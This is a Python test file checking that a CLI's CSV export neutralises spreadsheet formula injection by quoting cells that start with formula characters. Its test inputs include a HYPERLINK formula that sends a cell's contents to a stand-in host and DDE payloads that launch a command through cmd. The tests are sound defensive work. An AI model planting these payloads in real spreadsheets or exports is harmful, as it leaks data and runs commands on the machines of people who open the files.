"""A spreadsheet that opens the CSV shows texts and computes none."""

import csv
import io
from datetime import UTC, datetime

import pytest

from tests.cli.running import wiredesk
from tests.store.rows import stored_article
from worker.cli.terminal.output import print_csv
from worker.store import Store


def sheet(*rows: tuple[object, ...]) -> list[list[str]]:
    out = io.StringIO()
    print_csv(("title", "count"), rows, out)
    return list(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://evil.example?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\x00=1+1",
        "\ufeff=1+1",
        "＝1+1",
        " =1+1",
    ],
)
def test_a_formula_becomes_a_text(formula: str) -> None:
    (_, (cell, _)) = sheet((formula, 1))
    assert cell.startswith("'")
    assert not set(cell) & set("\t\r\n\x00\ufeff")


def test_a_text_cannot_leave_its_cell() -> None:
    title = 'a","=1+1\r\n"=2+2",b;c'
    assert sheet((title, 1)) == [["title", "count"], ['a","=1+1 "=2+2",b;c', "1"]]


def test_other_values_stay_what_they_are() -> None:
    at = datetime(2026, 5, 4, 12, tzinfo=UTC)
    assert sheet((at, -3), (None, 2.5), ("العربية – 5 %", 0))[1:] == [
        ["2026-05-04T12:00:00+00:00", "-3"],
        ["", "2.5"],
        ["العربية – 5 %", "0"],
    ]


def test_articles_come_as_csv(store: Store) -> None:
    with store.begin() as db:
        stored_article(db, title="=1+1", language="en")
    (head, row) = csv.reader(io.StringIO(wiredesk("articles", "list", "--csv").out))
    assert head == ["id", "stored_at", "published", "publisher", "language", "word_count", "title", "url"]
    assert row[6] == "'=1+1"
